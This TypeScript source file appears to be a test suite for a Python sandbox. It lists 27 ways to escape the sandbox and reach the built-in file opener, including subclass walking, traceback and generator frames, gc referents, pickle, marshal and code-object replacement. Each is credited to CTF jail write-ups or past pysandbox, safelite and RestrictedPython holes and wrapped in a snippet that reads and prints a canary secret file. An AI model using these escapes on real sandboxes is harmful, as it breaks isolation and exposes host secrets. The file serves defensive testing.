import type { Attack } from './attack.ts';

const JAIL = 'write-ups of Python jails in capture-the-flag contests';
const PYSANDBOX = 'the list of holes in the first pysandbox, 2010 to 2013';
const SAFELITE = 'the challenge of safelite.py, 2009';
const RESTRICTED = 'advisories of RestrictedPython';

/** An expression that finds the function which opens files, or another way to one: how, and where from. */
const WAYS_TO_OPEN: readonly (readonly [how: string, known: string, expression: string])[] = [
  ['the builtins themselves', JAIL, 'open'],
  [
    'a class among the subclasses of object whose module has os',
    SAFELITE,
    `[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "_wrap_close"][0].__init__.__globals__["__builtins__"]["open"]`,
  ],
  [
    'the class of raw files among the subclasses of object',
    PYSANDBOX,
    `(lambda walk: walk(walk, object))(lambda walk, kind: next((c for s in type.__subclasses__(kind) for c in ([s] if s.__name__ == "FileIO" else [walk(walk, s)]) if c), None))`,
  ],
  ['the module that a builtin function is bound to', JAIL, 'print.__self__.open'],
  [
    'the globals of a function of the library',
    PYSANDBOX,
    '__import__("json").dumps.__globals__["__builtins__"]["open"]',
  ],
  ['the frame of a traceback', SAFELITE, 'raised().__traceback__.tb_frame.f_builtins["open"]'],
  ['the frame of a generator', PYSANDBOX, '(n for n in ()).gi_frame.f_builtins["open"]'],
  [
    'the frame of a coroutine',
    JAIL,
    '(lambda c: (c.cr_frame.f_builtins["open"], c.close())[0])(coroutine())',
  ],
  ['the frame of the caller', JAIL, '__import__("sys")._getframe().f_builtins["open"]'],
  ['the modules that are loaded', PYSANDBOX, '__import__("sys").modules["io"].open'],
  ['the loader of a module', JAIL, '__import__("_frozen_importlib_external")._io.open'],
  [
    'an import by the machinery’s own function',
    PYSANDBOX,
    '__import__("importlib")._bootstrap._gcd_import("io").open',
  ],
  ['code that was compiled from a text', PYSANDBOX, 'eval(compile("open", "", "eval"))'],
  ['code with other globals', RESTRICTED, 'eval("open", {"__builtins__": __builtins__})'],
  [
    'code that was read by marshal',
    PYSANDBOX,
    'eval(__import__("marshal").loads(__import__("marshal").dumps(compile("open", "", "eval"))))',
  ],
  [
    'the code of a function, replaced',
    PYSANDBOX,
    '(lambda f: (setattr(f, "__code__", f.__code__.replace(co_names=("open",))), f())[1])(lambda: name)',
  ],
  ['what a string’s format looks up', RESTRICTED, 'formatted("{0.__self__.open}")'],
  [
    'what is reached by getattr and reduce',
    JAIL,
    '__import__("functools").reduce(getattr, ("__self__", "open"), print)',
  ],
  ['an attribute getter', JAIL, '__import__("operator").attrgetter("__self__.open")(print)'],
  [
    'what the collector of garbage knows',
    PYSANDBOX,
    '[f for f in __import__("gc").get_referents(__import__("io").__dict__) if getattr(f, "__name__", "") == "open"][0]',
  ],
  ['a pickle that names a function', PYSANDBOX, '__import__("pickle").loads(b"cio\\nopen\\n.")'],
  [
    'a type annotation that is evaluated',
    JAIL,
    '__import__("typing").get_type_hints(type("T", (), {"__annotations__": {"a": "type(open) and open"}}))["a"]',
  ],
  ['a hook of the class’s own name', JAIL, 'hooked()'],
  ['a decorator without a call', JAIL, 'decorated'],
  ['the exception’s own context', RESTRICTED, 'context()'],
  [
    'the module of warnings',
    SAFELITE,
    '__import__("warnings").catch_warnings()._module.__builtins__["open"]',
  ],
  [
    'a finder of modules',
    JAIL,
    '__import__("sys").meta_path[-1].find_spec.__func__.__globals__["_io"].open',
  ],
];

/** What some of them need: tricks that are no expressions. */
const HELPERS = `
name = None
def raised():
    try: 1 / 0
    except Exception as error: return error
async def coroutine(): pass
def formatted(path):
    seen = []
    class Spy:
        def __format__(self, _): return ""
    import string
    return string.Formatter().get_field(path[1:-1], (print,), {})[0]
class Meta(type):
    def __getattribute__(cls, what): return open if what == "found" else super().__getattribute__(what)
class Hooked(metaclass=Meta): pass
def hooked(): return Hooked.found
@(lambda kind: open)
class decorated: pass
def context():
    try:
        try: 1 / 0
        except ZeroDivisionError: [][0]
    except IndexError as error: return error.__context__.__traceback__.tb_frame.f_builtins["open"]
`;

export const LANGUAGE_ATTACKS: readonly Attack[] = WAYS_TO_OPEN.map(([how, known, expression]) => ({
  title: `a file of the host is opened by ${how}`,
  known,
  goal: 'secret',
  code: `${HELPERS}way = ${expression}
data = way(CANARY).read()
print(data if isinstance(data, str) else data.decode())`,
}));
